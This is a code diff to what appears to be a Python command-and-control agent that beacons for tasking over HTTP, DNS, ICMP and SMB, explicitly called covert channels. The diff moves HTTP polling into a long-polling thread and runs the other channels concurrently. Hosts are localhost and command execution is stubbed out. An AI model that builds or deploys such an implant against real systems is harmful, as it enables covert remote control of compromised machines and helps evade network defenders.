@@ -7,6 +7,8 @@ Supports HTTP, DNS, ICMP, and SMB-based communication for command retrieval and
 #!/usr/bin/env python3
 
 import time
+import threading
+from concurrent.futures import ThreadPoolExecutor
 from old.agent_comm import HTTPComm, DNSComm, ICMPComm, SMBComm
 
 # Configuration (in a real deployment, use a config file or environment variables)
@@ -17,12 +19,76 @@ DNS_SERVER_IP = "127.0.0.1"             # For DNS covert channel
 ICMP_TARGET_IP = "127.0.0.1"            # For ICMP communications
 SMB_SERVER_IP = "127.0.0.1"             # For SMB file-based tasking
 
+# The server holds an HTTP command poll open until work is queued (long-polling), so the
+# next poll is issued right away; only an empty or failed poll backs off before retrying.
+HTTP_EMPTY_BACKOFF = 1
+# Seconds between rounds of the DNS, ICMP and SMB channels
+CHANNEL_INTERVAL = 10
+
 # Instantiate communication classes
 http_comm = HTTPComm(SERVER_URL)
 dns_comm = DNSComm(DNS_SERVER_IP)
 icmp_comm = ICMPComm(ICMP_TARGET_IP)
 smb_comm = SMBComm(SMB_SERVER_IP)
 
+def poll_http():
+    """
+    Retrieves commands via HTTP, executes them, and sends the output back.
+
+    Returns:
+        bool: True if any commands were received.
+    """
+    commands = http_comm.poll_commands(AGENT_ID, AUTH_TOKEN)
+    if commands:
+        for command in commands:
+            print("Received command via HTTP:", command)
+            # Execute the command and capture output
+            output = f"Executed command: {command}"
+            # Send the output back to the server
+            http_comm.send_output(AGENT_ID, AUTH_TOKEN, output)
+    return bool(commands)
+
+def http_loop():
+    """
+    Polls for HTTP commands back-to-back, backing off only after an empty or failed poll.
+    """
+    while True:
+        try:
+            received = poll_http()
+        except Exception as e:
+            print("Channel error:", e)
+            received = False
+        if not received:
+            time.sleep(HTTP_EMPTY_BACKOFF)
+
+def poll_dns():
+    """
+    Sends a heartbeat message via DNS.
+    """
+    dns_response = dns_comm.send_message("heartbeat")
+    if dns_response:
+        print("Received DNS response:", dns_response)
+
+def poll_icmp():
+    """
+    Sends a message via ICMP (requires admin privileges).
+    """
+    icmp_response = icmp_comm.send_message("ping")
+    if icmp_response:
+        print("Received ICMP response:", icmp_response)
+
+def poll_smb():
+    """
+    Checks for tasks via SMB (file-based communication).
+    """
+    smb_task = smb_comm.retrieve_task_file()
+    if smb_task:
+        print("Received SMB task:", smb_task)
+        # Process the task and (optionally) write the output to a file on the SMB share
+
+# Channels polled together every CHANNEL_INTERVAL seconds; HTTP runs its own loop
+CHANNELS = (poll_dns, poll_icmp, poll_smb)
+
 def main():
     """
     Main function that continuously polls for commands via different communication channels.
@@ -30,36 +96,24 @@ def main():
     - Sends periodic heartbeat messages via DNS.
     - Uses ICMP for additional covert communication.
     - Checks SMB share for task-based communication.
+
+    HTTP commands are long-polled in a dedicated thread, so they arrive as soon as
+    they are queued. The other channels are polled concurrently, so a cycle takes
+    as long as the slowest channel rather than the sum of their round-trips.
     """
-    while True:
-        # Example using HTTP: poll for commands
-        commands = http_comm.poll_commands(AGENT_ID, AUTH_TOKEN)
-        if commands:
-            for command in commands:
-                print("Received command via HTTP:", command)
-                # Execute the command and capture output
-                output = f"Executed command: {command}"
-                # Send the output back to the server
-                http_comm.send_output(AGENT_ID, AUTH_TOKEN, output)
-
-        # Optionally, send a heartbeat or simple message via DNS
-        dns_response = dns_comm.send_message("heartbeat")
-        if dns_response:
-            print("Received DNS response:", dns_response)
-
-        # Optionally, send a message via ICMP (requires admin privileges)
-        icmp_response = icmp_comm.send_message("ping")
-        if icmp_response:
-            print("Received ICMP response:", icmp_response)
-
-        # Optionally, check for tasks via SMB (file-based communication)
-        smb_task = smb_comm.retrieve_task_file()
-        if smb_task:
-            print("Received SMB task:", smb_task)
-            # Process the task and (optionally) write the output to a file on the SMB share
-
-        # Sleep before the next polling cycle (adjust as necessary)
-        time.sleep(10)
+    threading.Thread(target=http_loop, name="http", daemon=True).start()
+
+    with ThreadPoolExecutor(max_workers=len(CHANNELS)) as executor:
+        while True:
+            futures = [executor.submit(channel) for channel in CHANNELS]
+            for future in futures:
+                try:
+                    future.result()
+                except Exception as e:
+                    print("Channel error:", e)
+
+            # Sleep before the next polling cycle (adjust as necessary)
+            time.sleep(CHANNEL_INTERVAL)
 
 if __name__ == "__main__":
     main()